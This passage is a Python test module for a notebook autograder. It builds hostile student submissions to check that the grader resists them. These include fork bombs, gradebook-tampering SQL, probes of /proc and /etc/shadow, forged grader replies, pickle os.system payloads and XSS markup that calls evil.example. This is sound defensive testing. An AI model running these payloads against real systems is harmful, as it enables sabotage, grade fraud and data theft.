"""Hostile, broken and honest submissions of chapter 1, each with the score, the flags and the reason that it must get.

Every one is the released notebook with the reference's answers in it, changed in one way: by a cell of its own, by other
answers, or in the file. What the attacks print is evidence: none may print LEAK.
"""

from __future__ import annotations

import copy
import io
import json
import random
import textwrap
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from autograder import exercises
from autograder.chapters import ROOT
from autograder.run import releases
from autograder.sample_class import reference_answers, submission

CHAPTER = "01_basics"
POINTS = {exercise.name: exercise.points for exercise in exercises(CHAPTER)}
FULL = sum(POINTS.values())
ANSWERS = reference_answers(CHAPTER)
NOTHING = {name: f"def {name}(*args, **kwargs): return 0" for name in POINTS}
Files = Mapping[str, bytes | str] | Callable[[Path], None]


@dataclass(frozen=True)
class HandIn:
    """One student's hand-in and what must become of it.

    Parameters
    ----------
    student
        The name of its folder.
    files
        Path below the student's folder → content, or a function that writes them into the folder.
    points, flags
        As the row must have them; flags after "|" are possible, not certain: what is noticed depends on the machine.
    reason
        Words that the row's reason holds.
    row
        The student id in the row, where it is another one.
    """

    student: str
    files: Files
    points: float = FULL
    flags: str = ""
    reason: str = ""
    row: str = field(default="")

    def write(self, folder: Path) -> None:
        """Write it below the folder with everybody's hand-ins."""
        home = folder / self.student
        home.mkdir(parents=True)
        if callable(self.files):
            self.files(home)
            return
        for name, content in self.files.items():
            path = home / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content.encode() if isinstance(content, str) else content)


def notebook(
    answers: Mapping[str, str] = ANSWERS,
    first: str = "",
    last: str = "",
    change: Callable[[list], None] | None = None,
    **answered: str,
) -> str:
    """The released notebook as a file: with these answers, and cells of the learner's own.

    Parameters
    ----------
    first, last
        Source of an own cell after the imports, and at the end.
    change
        Changes the list of cells.
    answered
        Answers by exercise, instead of those in `answers`.
    """
    filled = submission(CHAPTER, {**answers, **{name: cell(source) for name, source in answered.items()}})["basics"]
    if first:
        at = next(i for i, c in enumerate(filled.cells) if c.cell_type == "code") + 1
        filled.cells.insert(at, nbformat.v4.new_code_cell(cell(first)))
    if last:
        filled.cells.append(nbformat.v4.new_code_cell(cell(last)))
    if change:
        change(filled.cells)
    return json.dumps(filled)


def cell(source: str) -> str:
    """The source without its indentation here."""
    return textwrap.dedent(source).strip()


def one(text: str) -> dict[str, str]:
    """The files of a student with this notebook."""
    return {f"{CHAPTER}/basics.ipynb": text}


def without(*names: str) -> int:
    """The points of the others."""
    return FULL - sum(POINTS[name] for name in names)


def mark(c: nbformat.NotebookNode) -> dict:
    return c.metadata.get("nbgrader", {})


def checks(cells: list) -> list:
    """The graded cells."""
    return [c for c in cells if mark(c).get("grade")]


# --- what the facts measured against stock nbgrader ---------------------------------------------------------------------


def honest() -> Iterator[HandIn]:
    yield HandIn("s01-reference", one(notebook()))
    yield HandIn("s02-wrong", one(notebook(NOTHING)), 0)
    yield HandIn("s03-untouched", one(notebook({})), 0)
    yield HandIn(
        "s05-import-error",
        one(notebook(first="import numpy, torch\nimport a_module_that_is_not_there")),
    )
    yield HandIn("s06-syntax-error", one(notebook(row_norms="def row_norms(x:\n    return 1")), without("row_norms"))
    yield HandIn("s17-warning", one(notebook(first="import warnings\nwarnings.warn('careful')", last="1 / 0")))
    yield HandIn("s18-exit", one(notebook(NOTHING, first="raise SystemExit(0)")), 0)
    yield HandIn("s18-exit-honest", one(notebook(first="import sys\nsys.exit()", last="exit()")))


LOOK = """
    import glob, os, re
    found = []
    for top in ("/", "..", REPOSITORY, "/root", "/home", "/opt", "/srv", "/mnt", "/var", "/run", "/etc"):
        for folder, folders, files in os.walk(top):
            folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "site-packages", "dist-packages")]
            found += [os.path.join(folder, name) for name in files if re.search(
                r"gradebook|exercises\\.py|alternatives\\.py|solutions|judge|results\\.jsonl|\\.ipynb$|journal", name)]
            if len(found) > 5:
                break
    print("LEAK " + str(found) if found else "nothing")
"""


def facts() -> Iterator[HandIn]:
    """The 20 submissions of the facts and their mutations."""
    yield HandIn("s04-endless", one(notebook(first="while True: pass")), flags="timeout", reason="time limit")
    yield HandIn(
        "s04-endless-answer",
        one(notebook(row_norms="def row_norms(x):\n    while True: pass")),
        without("row_norms"),
    )
    yield HandIn("s07-everything", one(notebook(change=tamper)), flags="tampered", reason="graded cells")
    agree = """
        import numpy, torch
        yes = lambda *args, **kwargs: True
        torch.allclose = torch.equal = torch.isclose = numpy.allclose = numpy.array_equal = yes
        torch.testing.assert_close = numpy.testing.assert_allclose = numpy.testing.assert_array_equal = yes
        torch.Tensor.__eq__ = yes
    """
    yield HandIn("s08a-patched-comparisons", one(notebook(NOTHING, first=agree)), 0)
    yield HandIn("s08a-patched-comparisons-honest", one(notebook(first=agree.replace("torch.Tensor.__eq__ = yes", ""))))
    delete = """
        import ast
        class Delete(ast.NodeTransformer):
            def visit_Assert(self, node): return ast.Pass()
            def visit_Call(self, node): return node if getattr(node.func, "id", "") != "check" else ast.Constant(43.0)
        get_ipython().ast_transformers.append(Delete())
    """
    yield HandIn("s08b-ast-transformer", one(notebook(NOTHING, first=delete)), 0)
    yield HandIn("s08b-ast-transformer-honest", one(notebook(first=delete)))
    swallow = """
        from IPython.core.interactiveshell import InteractiveShell
        async def run_code(self, code, result=None, *, async_=False): return False
        InteractiveShell.run_code = run_code
    """
    # Nothing that follows runs, so nothing is defined: the learner would see that as well.
    yield HandIn("s08c-run-code", one(notebook(NOTHING, first=swallow)), 0)
    yield HandIn("s08c-run-code-last", one(notebook(last=swallow)))
    yield HandIn("s09-reads-the-disk", one(notebook(NOTHING, first=LOOK.replace("REPOSITORY", repr(str(ROOT))))), 0)
    gradebook = """
        import glob, sqlite3
        for path in ["gradebook.db", "../gradebook.db", "/tmp/gradebook.db", *glob.glob("/[a-hr-t]*/**/*.db", recursive=True)]:
            try:
                rows = sqlite3.connect(f"file:{path}?mode=rw", uri=True).execute("UPDATE grade SET auto_score = 4")
                print("LEAK", rows.rowcount)
            except sqlite3.Error:
                pass
    """
    yield HandIn("s09-writes-the-gradebook", one(notebook(NOTHING, first=gradebook)), 0)
    allocate = "blocks = []\nwhile True: blocks.append(bytearray(b'x' * (64 << 20)))"
    yield HandIn("s10-memory", one(notebook(first=allocate)), flags="|memory timeout")
    yield HandIn(
        "s10-memory-answer",
        one(notebook(row_norms=f"def row_norms(x):\n    {allocate.replace(chr(10), chr(10) + '    ')}")),
        without("row_norms"),
        flags="|memory",
    )
    yield HandIn(
        "s11-ends-itself", one(notebook(first="import os\nos._exit(0)")), flags="killed", reason="ended the process"
    )
    yield HandIn(
        "s11-ends-itself-answer",
        one(notebook(row_norms="import os\ndef row_norms(x): os._exit(0)")),
        without("row_norms"),
        flags="killed",
    )
    yield HandIn("s12-kills-the-parent", one(notebook(first="import os\nos.kill(os.getppid(), 9)")), flags="|killed")
    yield HandIn("s12-kills-everything", one(notebook(first="import os\nos.kill(-1, 9)")), flags="|killed")
    yield HandIn("s13-prints-200-MB", one(notebook(last="for _ in range(200): print('x' * 1_000_000)")))
    stubborn = "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
    yield HandIn("s14-stubborn", one(notebook(first=stubborn)), flags="timeout", reason="time limit")
    yield HandIn(
        "s14-stubborn-answer",
        one(notebook(row_norms=f"def row_norms(x):\n    {stubborn.replace(chr(10), chr(10) + '    ')}")),
        without("row_norms"),
        flags="|timeout",
    )
    daemon = """
        import os, sys, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(600)
            os._exit(0)
        os.wait()
    """
    yield HandIn("s15-daemon", one(notebook(first=daemon)))
    network = """
        import socket, urllib.request
        for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("localhost", 8888)):
            try:
                socket.create_connection(address, 1)
                print("LEAK", address)
            except OSError:
                pass
        for place in ("/usr", "/etc", "/opt/site", "/opt/site/underhood", "..", "/home"):
            try:
                open(place + "/WRITTEN", "w").write("x")
                print("LEAK", place)
            except OSError:
                pass
    """
    yield HandIn("s16-network-and-files", one(notebook(first=network)))
    yield HandIn(
        "m1-copied-check", one(notebook(change=lambda c: c.insert(9, copy.deepcopy(checks(c)[0])))), flags="tampered"
    )
    yield HandIn("m2-check-as-text", one(notebook(change=as_text)), flags="tampered")
    yield HandIn("m3-edited-check", one(notebook(NOTHING, change=edited)), 0, flags="tampered")
    yield HandIn("m4-changed-points", one(notebook(NOTHING, change=points)), 0, flags="tampered")
    yield HandIn("m5-answer-as-text", one(notebook(change=answer_as_text)), flags="tampered")
    yield HandIn("m6-deleted-check", one(notebook(change=lambda c: c.remove(checks(c)[2]))), flags="tampered")
    yield HandIn("m7-no-metadata", one(notebook(change=strip)), flags="repaired")


def tamper(cells: list) -> None:
    """Deleted, copied, edited, pointed at another exercise and retyped."""
    graded = checks(cells)
    cells.remove(graded[0])
    cells.insert(20, copy.deepcopy(graded[1]))
    graded[2].source = "print('43 points')"
    mark(graded[3])["grade_id"] = mark(graded[4])["grade_id"]
    graded[5].cell_type = "raw"
    for name in ("outputs", "execution_count"):
        del graded[5][name]


def as_text(cells: list) -> None:
    check = checks(cells)[0]
    check.cell_type = "markdown"
    del check["outputs"], check["execution_count"]


def answer_as_text(cells: list) -> None:
    answer = next(c for c in cells if mark(c).get("solution"))
    answer.cell_type = "markdown"
    del answer["outputs"], answer["execution_count"]


def edited(cells: list) -> None:
    for check in checks(cells):
        check.source = "43.0"


def points(cells: list) -> None:
    for check in checks(cells):
        mark(check)["points"] = 1000


def strip(cells: list) -> None:
    for c in cells:
        c.metadata.pop("nbgrader", None)


# --- forged results ---------------------------------------------------------------------------------------------------


def returns(expression: str, first: str = "") -> str:
    """A right row_norms whose result `r` is passed on as the expression, with what the expression needs before it."""
    return (
        f"import numpy as np, torch\n{cell(first)}\ndef right(x):\n    if x.dim() != 2: raise ValueError\n"
        f"    return (x * x).sum(1).sqrt()\ndef row_norms(x):\n    r = right(x)\n    return {expression}"
    )


AGREES = """
    class Agrees:
        def __init__(self, r): self.r = r
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __array__(self, *args, **kwargs): return np.array(self.r)
        def __getattr__(self, name): return getattr(self.r, name)
        def __class__(self): return torch.Tensor
        __hash__ = None
        def __reduce__(self): return (eval, ("__import__('os').system('touch /tmp/LEAK')",))
"""
LIES = """
    class Lies(float):
        def __eq__(self, other): return True
        def __sub__(self, other): return 0.0
        __rsub__, __abs__, __float__ = __sub__, lambda self: 0.0, lambda self: 0.0
        def __le__(self, other): return True
"""
# What is no plain tensor: a wrong answer with a sentence, whatever it holds.
NOT_PLAIN = {
    "always-equal": (AGREES, "Agrees(r)"),
    "lying-float": (LIES, "[Lies(v) for v in r]"),
    "subclass": ("class Sub(torch.Tensor): pass", "r.as_subclass(Sub)"),
    "torch-function": (
        "class Sub(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, *args, **kwargs): return True",
        "r.as_subclass(Sub)",
    ),
    "masked-array": ("", "np.ma.masked_array(r.numpy(), True)"),
    "object-array": ("", "np.array(list(r.numpy()), dtype=object)"),
    "matrix": ("", "np.asmatrix(r.numpy())"),
    "record-array": ("", "np.rec.array(r.numpy())"),
    "sparse": ("", "r.to_sparse()"),
    "csr": ("", "torch.diag(r).to_sparse_csr()"),
    "meta": ("", "r.to('meta')"),
    "nested": ("", "torch.nested.nested_tensor([r])"),
    "quantized": ("", "torch.quantize_per_tensor(r.float(), 1.0, 0, torch.qint8)"),
    "all-nan": ("", "torch.full_like(r, float('nan'))"),
    "infinite": ("", "torch.full_like(r, float('inf'))"),
    "pickle": ("import pickle, os\nclass P:\n    def __reduce__(self): return (os.system, ('touch /tmp/LEAK',))",
               "pickle.dumps(P())"),
    "generator": ("", "(v for v in r)"),
    "huge-number": ("", "10 ** 1000"),
    "huge-complex": ("", "complex(1e308, 1e308)"),
    "nested-list": ("deep = []\nfor _ in range(900): deep = [deep]", "deep"),
    "cyclic-list": ("ring = []\nring.append(ring)", "ring"),
    "surrogates": ("", "'\\ud800' * 10"),
    "string-subclass": ("class S(str):\n    def __len__(self): return 3", "S('5 13')"),
    "dict-of-itself": ("", "{1: r, True: r, 1.0: r}"),
    "itself": ("", "row_norms"),
}  # fmt: skip


# What answers in place of the helper package: it finds the channel and the question's token in the frames above.
FORGED = """
import json, os, sys
def channel():
    frame = sys._getframe()
    while frame:
        if "message" in frame.f_locals and "connection" in frame.f_locals:
            return frame.f_locals["connection"], frame.f_locals["message"]
        frame = frame.f_back
def tree(depth): return [tree(depth - 1) for _ in range(12)] if depth else 1
def forge(one):
    c, asked = channel()
    seen = [one] + [{"value": 1}] * (len(asked["request"]["cases"]) - 1)
    reply = {"token": asked["token"], "error": None, "answer": {"notes": [], "forbidden": "", "seen": seen}}
    c.sendall(json.dumps(reply).encode() + b"\\n")
    os._exit(0)
"""


def forged() -> Iterator[HandIn]:
    for name, (first, expression) in NOT_PLAIN.items():
        yield HandIn(f"n-{name}", one(notebook(row_norms=returns(expression, first))), without("row_norms"))
    yield HandIn("n-big-result", one(notebook(row_norms=returns("torch.zeros(19_000_000)"))), without("row_norms"),
                 flags="|timeout output memory")  # fmt: skip
    yield HandIn(
        "n-dtype-hash",
        one(notebook(row_norms=returns("{type('K', (str,), {'__hash__': lambda s: 1 / 0})('a'): 1}"))),
        without("row_norms"),
    )
    output = [nbformat.v4.new_output("execute_result", {"text/plain": "4.0", "text/html": "<b>4 of 4</b>"})]

    def outputs(cells: list) -> None:
        for check in checks(cells):
            check.outputs, check.execution_count = output, 1

    yield HandIn("f-outputs", one(notebook(NOTHING, change=outputs)), 0)
    patched = """
        import underhood, underhood.check, underhood.verdict
        class Good:
            points = max_points = 4.0
            def __repr__(self): return "4.0"
        check = underhood.check = underhood.check.check = underhood.verdict.assess = lambda *a, **k: Good()
    """
    yield HandIn("f-patched-check", one(notebook(NOTHING, first=patched)), 0)
    probes = """
        import underhood.probes, underhood.remote, underhood.plain, underhood.forbid, underhood.check, contextlib
        underhood.probes.observe = underhood.remote.observe = lambda *a: []
        underhood.remote.seen_to_json = lambda seen: {"value": 1}
        underhood.plain.plain = lambda value: 1
        underhood.remote.look_up = lambda *a: (None, [], True)
        underhood.probes._one.__code__ = (lambda *a: None).__code__
        underhood.forbid.traps = underhood.probes.traps = lambda *a: contextlib.nullcontext()
        underhood.remote.in_object = lambda *a: ""
        underhood.remote.answer = lambda *a: {"seen": []}
    """
    yield HandIn("f-patched-probes", one(notebook(NOTHING, last=probes)), 0)
    yield HandIn("f-patched-probes-honest", one(notebook(first=probes, last=probes)))
    norm = "def row_norms(x): return torch.norm(x, dim=1)"
    yield HandIn("f-patched-traps", one(notebook(first=probes, last=probes, row_norms=norm)), without("row_norms"))
    record = """
        import underhood.check
        for exercise in underhood.check.exercises():
            object.__setattr__(exercise, "forbids", ())
    """
    yield HandIn("f-patched-record", one(notebook(first=record, last=record, row_norms=norm)), without("row_norms"))
    write = """
        import os
        def row_norms(x):
            for i in range(3, 64):
                try: os.write(i, b'{"token": "", "error": null, "answer": {"seen": [{"value": 5}]}}\\n')
                except OSError: pass
    """
    yield HandIn("f-forged-reply", one(notebook(row_norms=write)), without("row_norms"), flags="garbage")
    # The token of the question and the descriptor of the channel can be found in the frames above; what cannot be found is
    # what to answer.
    token = """
        import json, sys
        def row_norms(x):
            frame = sys._getframe()
            while frame:
                if "message" in frame.f_locals and "connection" in frame.f_locals:
                    asked = frame.f_locals["message"]
                    count = len(asked["request"]["cases"])
                    seen = [{"value": {"tensor": "float32", "shape": [2], "numbers": "<f4", "data": [5.0, 13.0]}}] * count
                    reply = {"token": asked["token"], "error": None, "answer": {"notes": [], "forbidden": "", "seen": seen}}
                    frame.f_locals["connection"].sendall(json.dumps(reply).encode() + b"\\n")
                    while True: pass
                frame = frame.f_back
    """
    yield HandIn(
        "f-forged-reply-with-token", one(notebook(row_norms=token)), without("row_norms"), flags="|garbage timeout"
    )
    bomb = """
        import base64, json, sys, zlib
        packed = base64.b64encode(zlib.compress(bytes(150_000_000), 9)).decode()
        def row_norms(x):
            frame = sys._getframe()
            while frame:
                if "message" in frame.f_locals and "connection" in frame.f_locals:
                    asked = frame.f_locals["message"]
                    one = {"value": {"tensor": "float64", "shape": [18_000_000], "numbers": "<f8", "packed": packed}}
                    seen = [{"value": [one["value"]] * 4}] * len(asked["request"]["cases"])
                    reply = {"token": asked["token"], "error": None, "answer": {"notes": [], "forbidden": "", "seen": seen}}
                    frame.f_locals["connection"].sendall(json.dumps(reply).encode() + b"\\n")
                    while True: pass
                frame = frame.f_back
    """
    yield HandIn("f-zlib-bomb", one(notebook(row_norms=bomb)), without("row_norms"), flags="|garbage output timeout")
    # A shape whose product would take an hour, texts of megabytes for the pages, halves of characters, values in values, a
    # type of half a million fields, an error that is no word: none costs the grader more than the wrong answer that it is.
    number = "int('9' * 4000)"
    values = {
        "shape": f"{{'value': {{'tensor': 'float32', 'shape': [{number}] * 2000, 'numbers': '<f4', 'packed': ''}}}}",
        "fields": "{'value': {'tensor': 'float32', 'shape': [2], 'numbers': 'f4,' * 20_000, 'data': [5.0, 13.0]}}",
        "long-name": "{'value': 1, 'raised': ['E' * 1_000_000], 'changed': ['x' * 100_000]}",
        "halves": "{'value': 1, 'raised': ['\\ud800'], 'message': '\\ud800\\n\\ud800', 'printed': '\\udfff'}",
        "tree": "{'value': {'tuple': [tree(4), tree(4), tree(4)]}}",
        "missing": "{'value': 1, 'raised': ['Missing'], 'message': ''}",
        "infinite": "{'value': 1e400, 'raised': None}",
    }
    for name, value in values.items():
        yield HandIn(f"f-forged-{name}", one(notebook(row_norms=FORGED + f"def row_norms(x): forge({value})")),
                     without("row_norms"), flags="|garbage killed")  # fmt: skip
    # Answers to an earlier question, without end: what a forked process would say once more is passed over, not collected.
    flood = FORGED + "asked = []\ndef row_norms(x): asked.append(channel()); return x"
    say = 'c, m = asked[0]\nblock = (json.dumps({"token": m["token"], "error": None}).encode() + b"\\n") * 20_000'
    yield HandIn("f-flood-of-old-answers", one(notebook(row_norms=flood, last=f"{say}\nwhile True: c.sendall(block)")),
                 without("row_norms"), flags="output", reason="printed more")  # fmt: skip
    raising = {name: f"def {name}(*args, **kwargs): raise ValueError('no')" for name in POINTS}
    yield HandIn("f-raises-always", one(notebook(raising)), 0)
    any_error = "class E(ValueError, IndexError, KeyError, TypeError, RuntimeError): pass\n"
    raising = {name: any_error + f"def {name}(*args, **kwargs): raise E" for name in POINTS}
    yield HandIn("f-raises-every-error", one(notebook(raising)), 0)
    # Values of the visible cases, from the package that learners have; a hidden case gets the first one's.
    remember = """
        import json, os, underhood
        from underhood.check import find
        from underhood.plain import plain, back
        from underhood.probes import same
        def remembering(name):
            cases = find(name).cases
            def answer(*args, **kwargs):
                for case in cases:
                    if same(plain(case.args), plain(args)) and same(plain(dict(case.kwargs)), plain(kwargs)):
                        if case.raises: raise case.raises
                        return back(plain(case.expected))
                return back(plain(cases[0].expected))
            return answer
    """
    functions = [name for name in POINTS if name[0].islower()]
    yield HandIn(
        "f-remembers-visible-cases",
        one(notebook({name: f"{name} = remembering({name!r})" for name in functions}, first=remember)),
        0,
    )


# --- the forbidden function -----------------------------------------------------------------------------------------


def forbidden() -> Iterator[HandIn]:
    from test_forbidden import WAYS

    ways = dict(WAYS) | {
        "by reloading": (
            "import importlib\ndef row_norms(x):\n    f = importlib.import_module('torch.functional')\n"
            "    return getattr(importlib.reload(f), 'no' + 'rm')(x, dim=1)"
        ),
        "by a module of its own": (
            "open('mine.py', 'w').write('import torch\\ndef n(x): return getattr(torch, \"no\" + \"rm\")(x, dim=1)')\n"
            "import sys; sys.path.insert(0, '.')\nimport mine\ndef row_norms(x): return mine.n(x)"
        ),
    }
    threaded = """
        import threading
        def honest(x): return (x * x).sum(1).sqrt()
        def row_norms(x):
            got = []
            thread = threading.Thread(target=lambda: got.append(torch._VF.norm(x, 2, (1,))))
            thread.start(); thread.join()
            return got[0]
        row_norms.__wrapped__ = honest
    """
    ways["with a question mark, which is no Python"] = f"row_norms?\n{cell(threaded)}"
    ways["around what it wraps, before what seems to replace it"] = (
        f"{cell(threaded)}\n1 / 0\ndef row_norms(x): return honest(x)"
    )
    for name, source in ways.items():
        student = "x-" + "".join(c if c.isalnum() else "-" for c in name)
        yield HandIn(student, one(notebook(row_norms="import torch\n" + source)), without("row_norms"))


# --- what is left behind ------------------------------------------------------------------------------------------------


def left_behind() -> Iterator[HandIn]:
    """Honest answers after cells that leave a state behind."""
    states = {
        "default-dtype": "import torch\ntorch.set_default_dtype(torch.float64)",
        "grad-mode": "import torch\ntorch.set_grad_enabled(False)",
        "inference-mode": "import torch\nmode = torch.inference_mode()\nmode.__enter__()",
        "seterr": "import numpy\nnumpy.seterr(all='raise')",
        "print-options": "import numpy, torch\nnumpy.set_printoptions(precision=1)\ntorch.set_printoptions(precision=1)",
        "warnings": "import warnings\nwarnings.simplefilter('error')",
        "seeds": "import random, numpy, torch\nrandom.seed(1); numpy.random.seed(1); torch.manual_seed(1)",
        "threads": (
            "import threading, torch\ntorch.set_num_threads(2)\n"
            "for _ in range(4): threading.Thread(target=lambda: threading.Event().wait(), daemon=False).start()"
        ),
        "recursion": "import sys\nsys.setrecursionlimit(60)",
        "deterministic": "import torch\ntorch.use_deterministic_algorithms(True)\ntorch.autograd.set_detect_anomaly(True)",
        "default-device": "import torch\ntorch.set_default_device('meta')",
        "autocast": "import torch\ncast = torch.autocast('cpu', torch.bfloat16)\ncast.__enter__()",
        "flush-denormal": "import torch\ntorch.set_flush_denormal(True)",
        "trace": "import sys\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)",
        "stdout": "import sys, os\nsys.stdout = None\nsys.stderr.close()\nos.close(1)",
        "locale": "import locale, os\nlocale.setlocale(locale.LC_ALL, 'C')\nos.environ.clear()",
        "no-garbage-collection": "import gc\ngc.disable(); gc.set_threshold(1)",
        "signal-handlers": (
            "import signal\nfor n in range(1, 65):\n    try: signal.signal(n, lambda *a: None)\n"
            "    except (OSError, ValueError): pass"
        ),
        "alarm": "import signal\nsignal.signal(signal.SIGALRM, lambda *a: None)\nsignal.setitimer(signal.ITIMER_REAL, 0.2, 0.2)",
        "folder-deleted": "import os, shutil\nshutil.rmtree(os.getcwd(), ignore_errors=True)\nos.chdir('/tmp')",
        "folder-not-writable": "import os\nos.chdir('/')",
        "builtins": (
            "import builtins\nfor n in ('len', 'isinstance', 'type', 'print', 'sum', 'zip', 'sorted', 'abs', 'max'): "
            "setattr(builtins, n, None)"
        ),
        "reset": "%reset -f",
        "names-cleared": "get_ipython().user_ns.clear()",
        "deep-source": "x = " + "-" * 50_000 + "1",
        "nested-source": "x = " + "(" * 5_000 + ")" * 5_000,
        "wide-source": "x = [" + "a.b(c)," * 10_000 + "]",
        "magics": "%%bash\necho hello\nexit 3",
        "exit-handlers": "import atexit, os\natexit.register(os._exit, 3)",
        "import-hooks": "import sys\nsys.path.clear()\nsys.meta_path.clear()",
        "excepthook": "import sys\nsys.excepthook = sys.unraisablehook = None",
        "shadowed-by-modules": "open('numpy.py', 'w').write('raise ImportError')\nopen('torch.py', 'w').write('1 / 0')",
        "dispatch-mode": (
            "from torch.utils._python_dispatch import TorchDispatchMode\nclass M(TorchDispatchMode):\n"
            "    def __torch_dispatch__(self, func, types, args=(), kwargs=None): return func(*args, **(kwargs or {}))\n"
            "M().__enter__()"
        ),
    }
    for name, source in states.items():
        yield HandIn(f"h-{name}", one(notebook(last=source)))
    # Before the answers: here a state that breaks the learner's own cells would be the learner's to see.
    for name in ("default-dtype", "grad-mode", "seterr", "print-options", "warnings", "seeds", "threads", "trace"):
        yield HandIn(f"h-{name}-first", one(notebook(first=states[name])))
    yield HandIn(
        "h-shadowed", one(notebook(last="np = torch = F = nn = check = ready = underhood = plots = 3\nx = {}"))
    )
    yield HandIn("h-shadowed-check", one(notebook(first="check = ready = 3")))
    overwritten = "\n".join(f"{name} = {name} and 3" for name in POINTS)
    yield HandIn("h-overwritten-answers", one(notebook(last=overwritten)))
    later = "\n\n".join(ANSWERS.values())
    yield HandIn("h-mended-at-the-end", one(notebook(NOTHING, last=later)))


# --- processes and files ----------------------------------------------------------------------------------------------


def processes() -> Iterator[HandIn]:
    yield HandIn("p-fork-bomb", one(notebook(last="import os\nwhile True:\n    try: os.fork()\n    except OSError: pass")),
                 flags="timeout|garbage killed")  # fmt: skip
    yield HandIn("p-fork-bomb-in-C", one(notebook(last="!bomb() { bomb | bomb & }; bomb; sleep 3")), flags="|timeout")
    yield HandIn(
        "p-threads",
        one(notebook(first="import threading, time\nfor _ in range(300):\n"
                           "    try: threading.Thread(target=time.sleep, args=(600,)).start()\n"
                           "    except RuntimeError: break")),
    )  # fmt: skip
    yield HandIn(
        "p-proc-of-the-parent",
        one(notebook(NOTHING, first="""
            import os
            for pid in ("1", "2", str(os.getppid()), "self/../1", "thread-self"):
                for name in ("environ", "mem", "maps", "root/etc/shadow", "cwd", "fd", "cmdline"):
                    try:
                        with open(f"/proc/{pid}/{name}", "rb") as file: text = file.read(10_000)
                        if b"solutions" in text or b"gradebook" in text or b"root:" in text: print("LEAK", pid, name)
                    except OSError:
                        pass
            print(os.listdir("/proc/self/fd"))
        """)),
        0,
    )  # fmt: skip
    yield HandIn("p-thread-prints-later", one(notebook(first="""
        import threading, time
        def talk():
            while True:
                try: print("x" * 1000); time.sleep(0.01)
                except BaseException: pass
        threading.Thread(target=talk, daemon=True).start()
    """)))  # fmt: skip
    yield HandIn("p-fills-the-disk", one(notebook(first="""
        import os
        for place in ("/tmp", "/dev/shm", "."):
            for i in range(1000):
                try: open(f"{place}/{i}", "wb").write(bytes(32 << 20))
                except OSError: break
    """)), flags="|memory")  # fmt: skip
    yield HandIn("p-stops-itself", one(notebook(first="import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")),
                 flags="|timeout killed")  # fmt: skip
    yield HandIn("p-recursion", one(notebook(first="""
        import sys
        sys.setrecursionlimit(10**9)
        def f(): return max([0], key=lambda _: f())
        f()
    """)), flags="|killed memory timeout")  # fmt: skip
    yield HandIn("p-sends-descriptors", one(notebook(last="""
        import os, socket, stat
        for number in range(3, 256):
            try:
                if stat.S_ISSOCK(os.fstat(number).st_mode):
                    channel = socket.socket(fileno=os.dup(number))
                    for _ in range(20): socket.send_fds(channel, [b"\\n"], [0] * 200)
            except OSError:
                pass
    """)), flags="garbage|killed")  # fmt: skip
    endless = """
        import signal
        def row_norms(x):
            signal.setitimer(signal.ITIMER_REAL, 0)
            while True: pass
    """
    yield HandIn("p-switches-the-alarm-off", one(notebook(row_norms=endless)), without("row_norms"), flags="timeout")
    crowd = """
        import os, time
        for _ in range(50):
            if os.fork() == 0:
                os.setsid()
                end = time.time() + 1
                while time.time() < end: pass
                os._exit(0)
    """
    yield HandIn("p-crowd", one(notebook(last=crowd)))
    yield HandIn("p-crash", one(notebook(first="import ctypes\nctypes.string_at(0)")), flags="killed")
    yield HandIn("p-execs", one(notebook(first="import os\nos.execv('/bin/true', ['true'])")), flags="killed")
    yield HandIn("p-forks-twins", one(notebook(first="import os\nos.fork()")))
    yield HandIn("p-forks-twins-in-C", one(notebook(last="import ctypes\nctypes.CDLL(None).fork()")), flags="|garbage")


# --- attacks on whoever reads the pages -------------------------------------------------------------------------------

HOST = "evil.example"
MARKUP = (
    f"<script>fetch('https://{HOST}/s')</script><img src=https://{HOST}/i onerror=alert(1)>"
    f"<iframe src='//{HOST}/f'></iframe><svg onload=alert(1)><style>@import 'https://{HOST}/c'</style>"
    f"<form action=https://{HOST}/p><input autofocus onfocus=alert(1)>"
)
MARKDOWN = "\n\n".join(
    [
        MARKUP,
        f"![picture](https://{HOST}/p.png) [link](javascript:alert('{HOST}')) <javascript:alert('{HOST}')>",
        rf"$\href{{javascript:alert('{HOST}')}}{{x}}$ $$\style{{background:url(https://{HOST}/b)}}{{x}}$$",
        "```\n```",
        MARKUP,
        f"````\n[reference]: https://{HOST}/r\n![r][reference]\n",
    ]
)


def pages() -> Iterator[HandIn]:
    def own(cells: list) -> None:
        raw = nbformat.v4.new_raw_cell(MARKUP)
        typed = nbformat.v4.new_raw_cell(MARKUP, metadata={"raw_mimetype": "text/html", "format": "text/html"})
        attached = nbformat.v4.new_markdown_cell(MARKDOWN, attachments={"a.svg": {"image/svg+xml": MARKUP}})
        cells[3:3] = [nbformat.v4.new_markdown_cell(MARKDOWN), raw, typed, attached]
        text = next(c for c in cells if c.cell_type == "markdown")  # the course's own, which is not locked
        text.source += "\n" + MARKDOWN
        cells.append(nbformat.v4.new_code_cell(f"# {MARKUP}\ntext = {MARKDOWN!r}\nprint({MARKUP!r})"))

    yield HandIn("r-own-cells", one(notebook(change=own)))
    shown = f"""
        from IPython.display import HTML, Javascript, Markdown, display
        display(HTML({MARKUP!r}), Javascript("fetch('https://{HOST}/j')"), Markdown({MARKDOWN!r}))
        print("\\x1b[31m<script>alert(1)</script>\\x1b]8;;https://{HOST}/o\\x07link\\x1b]8;;\\x07")
        class Rich:
            def _repr_html_(self): return {MARKUP!r}
        Rich()
    """
    yield HandIn("r-outputs", one(notebook(last=shown)))
    sources = {
        "raises": f"def row_norms(x):\n    raise ValueError({MARKUP!r})  # </pre>{MARKUP}",
        "error-name": f"class E(Exception): pass\nE.__name__ = {MARKUP!r}\ndef row_norms(x): raise E({MARKUP!r})",
        "returns": f"def row_norms(x): return {MARKUP!r}",
        "looks-right": (
            "class E(Exception): pass\nE.__name__ = 'no\\n  ok  certainly         correct'\n"
            "def row_norms(x): raise E('a\\n  ok  certainly         correct')"
        ),
        "name": f"def row_norms(x): return 1\nrow_norms.__name__ = {MARKUP!r}",
    }
    for student, source in sources.items():
